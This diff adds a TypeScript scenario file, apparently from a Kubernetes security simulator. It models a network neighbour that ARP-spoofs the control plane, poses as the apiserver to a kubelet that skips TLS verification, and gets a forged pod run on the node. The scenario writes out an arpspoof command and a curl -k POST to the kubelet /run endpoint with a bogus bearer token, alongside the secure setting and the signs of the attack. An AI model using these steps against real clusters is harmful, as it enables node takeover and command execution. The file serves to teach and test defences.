@@ -1,0 +1,134 @@
+import { Attacker } from '../../attacker/attacker';
+import { neighbour } from '../../attacker/position';
+import { type Kubelet, startKubelet } from '../../kubelet/kubelet';
+import { parseKubeletConfiguration } from '../../kubelet/kubelet-configuration';
+import { selfSignedKubeletServing } from '../../pki/kubelet-serving';
+import { addresses, ports } from '../addresses';
+import { randomCanaries } from '../canaries';
+import type { Cluster } from '../cluster';
+import { Witness } from '../witness';
+import { curl } from './curl';
+import type { Scenario } from './scenario';
+import type { Stage } from './stage';
+
+const OUTPUT_WITHIN_MS = 10_000;
+
+export const fakeApiserver: Scenario = {
+  id: 'fake-apiserver',
+  title: 'a fake apiserver that tells a kubelet which pods to run',
+  story:
+    'A kubelet runs what its apiserver tells it to run, and lets in whom its apiserver vouches for. Where its kubeconfig skips verification, a neighbour on its network is its apiserver: it lists a pod for the node, says yes to every TokenReview and SubjectAccessReview, and so owns the machine without a credential of its own. The kubelet shows it a client certificate, which is no use to it: the key never leaves the node.',
+  setting: {
+    name: 'clusters[].cluster in the kubelet’s kubeconfig',
+    open: 'insecure-skip-tls-verify: true',
+    fixed: 'certificate-authority: /etc/kubernetes/pki/ca.crt',
+  },
+  notice:
+    'The genuine apiserver hears no more of the node: its lease ages, it becomes NotReady, and kubectl get pods knows nothing of what crictl ps shows there. On the node, ip neigh has two addresses at one hardware address.',
+  sources: [
+    'pkg/kubelet/config/apiserver.go',
+    'cmd/kubelet/app/auth.go',
+    'kubernetes.io, "Communication between Nodes and the Control Plane"',
+  ],
+  async play(stage, twin) {
+    const cluster = await stage.cluster({ clientTrust: twin === 'open' ? 'nobody' : 'cluster-authority' });
+    const { attackerHost, newNode } = cluster;
+    const { forged, tampered } = randomCanaries();
+    const target = { address: addresses.controlPlane, port: ports.apiserver };
+    const position = neighbour(newNode, attackerHost, target.address);
+    await using attack = await new Attacker({ host: attackerHost }).attack({
+      technique: 'self-signed',
+      targets: [target],
+      position,
+      present: null,
+      mode: 'impersonate',
+      forged,
+      tampered,
+    });
+    stage.did('attacker', `arpspoof -t ${newNode.name} ${target.address}`, position.describe());
+
+    const { kubelet, failure } = await startVictim(stage, cluster);
+    const serve = `answers ${newNode.name} as the apiserver, with pod/${forged} for it`;
+    const shown = attack.loot.handshakes.find((it) => it.clientCertificate !== null)?.clientCertificate;
+    if (shown) stage.did('attacker', 'reads the handshake', `${shown.subject}, without its key`);
+    const output = kubelet === null ? '' : await outputOf(kubelet, forged, stage.signal);
+    if (output.includes(forged)) {
+      stage.gained(
+        'attacker',
+        serve,
+        `crictl logs on ${newNode.name}: ${output}`,
+        'a pod of its choice on the node',
+      );
+    } else stage.refused('attacker', serve, failure);
+
+    const kubeletAt = `https://${addresses.node3}:${ports.kubelet}`;
+    const run = await curl(attackerHost, `${kubeletAt}/run/default/${forged}/forged?cmd=hostname`, {
+      method: 'POST',
+      token: 'whatever',
+      signal: stage.signal,
+    });
+    const knock = `curl -k -XPOST -H "Authorization: Bearer whatever" "https://${newNode.name}:10250/run/…?cmd=hostname"`;
+    if (run.body.includes(forged)) {
+      stage.gained(
+        'attacker',
+        knock,
+        run.body.trim(),
+        'a kubelet that runs commands for whoever shows any token',
+      );
+    } else stage.refused('attacker', knock, run.words);
+  },
+};
+
+/** A kubelet that joins with a certificate of its own, until its node is registered or it was not believed. */
+async function startVictim(
+  stage: Stage,
+  cluster: Cluster,
+): Promise<{ readonly kubelet: Kubelet | null; readonly failure: string }> {
+  const { newNode: host, pki } = cluster;
+  const server = { host: addresses.controlPlane, port: ports.apiserver };
+  const witness = new Witness(server, null);
+  const stop = new AbortController();
+  const configuration = {
+    apiVersion: 'kubelet.config.k8s.io/v1beta1',
+    kind: 'KubeletConfiguration',
+    address: addresses.node3,
+    healthzPort: 0,
+    authentication: { x509: { clientCAFile: '/etc/kubernetes/pki/ca.crt' } },
+  };
+  const starting = startKubelet({
+    host,
+    nodeName: host.name,
+    config: parseKubeletConfiguration(JSON.stringify(configuration), 'KubeletConfiguration'),
+    apiserver: {
+      server,
+      trust: cluster.clientTrust(server.host),
+      clientCertificate: await cluster.credentials.kubelet(host.name),
+      observer: witness,
+    },
+    sandbox: { attachPod: async () => host },
+    servingKeyPair: await selfSignedKubeletServing(host.name),
+    clientCaPem: pki.caPem,
+    log: stage.log,
+    signal: stop.signal,
+  });
+  stage.closeLater({
+    close: async () => {
+      stop.abort();
+      // It rejects when it was told to stop before it was ready.
+      await starting.then(
+        (kubelet) => kubelet.close(),
+        () => undefined,
+      );
+    },
+  });
+  const kubelet = await Promise.race([starting, witness.settled.then(() => null)]);
+  return { kubelet, failure: witness.outcome().words };
+}
+
+/** The first line that the pod's container wrote. */
+async function outputOf(kubelet: Kubelet, pod: string, signal: AbortSignal): Promise<string> {
+  await kubelet.whenRunning('default', pod);
+  const log = kubelet.container('default', pod, 'forged')?.log;
+  await log?.reached(0, AbortSignal.any([signal, AbortSignal.timeout(OUTPUT_WITHIN_MS)]));
+  return log?.select({ tailLines: 1 })[0]?.bytes.toString('utf8').trim() ?? '';
+}
